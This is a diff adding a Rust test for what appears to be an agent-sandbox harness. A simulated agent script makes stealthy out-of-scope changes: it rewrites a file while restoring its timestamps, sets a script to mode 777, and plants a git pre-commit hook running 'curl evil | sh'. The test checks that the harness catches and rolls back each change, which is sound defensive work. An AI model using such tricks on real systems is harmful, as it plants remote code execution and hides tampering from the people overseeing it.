@@ -318,6 +318,42 @@ fn changes_outside_the_restrictions_are_rolled_back() {
 }
 
 #[test]
+fn stealthy_changes_outside_the_restrictions_are_seen_and_rolled_back() {
+    let f = fixture();
+    std::fs::create_dir_all(f.ws.path().join(".git/hooks")).unwrap();
+    std::fs::write(f.ws.path().join("notes.txt"), "original").unwrap();
+    std::fs::write(f.ws.path().join("tool.sh"), "echo hi\n").unwrap();
+    let program = agent(
+        f.agents.path(),
+        "stealth.py",
+        &format!(
+            // Same size, modification time put back; a mode change; a
+            // hook git would run on the user's next commit.
+            "st = os.stat('notes.txt')\nopen('notes.txt', 'w').write('REWRITES')\n\
+             os.utime('notes.txt', ns=(st.st_atime_ns, st.st_mtime_ns))\n\
+             os.chmod('tool.sh', 0o777)\n\
+             open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n{}",
+            write_output("completed", &[], &[])
+        ),
+    );
+    let outcome = f.run(f.request(&program));
+    let stderr = std::fs::read_to_string(outcome.exec.bundle_dir.join("cmd-1.stderr"));
+    assert!(outcome.rolled_back, "{outcome:?} {stderr:?}");
+    assert_eq!(
+        outcome.violations,
+        [".git/hooks/pre-commit", "notes.txt", "tool.sh"]
+    );
+    assert_eq!(f.read("notes.txt"), "original");
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(f.ws.path().join("tool.sh"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_ne!(mode & 0o777, 0o777, "the chmod was undone");
+    assert!(!f.ws.path().join(".git/hooks/pre-commit").exists());
+}
+
+#[test]
 fn with_the_fail_policy_violations_stay_for_inspection() {
     let f = fixture();
     let program = agent(
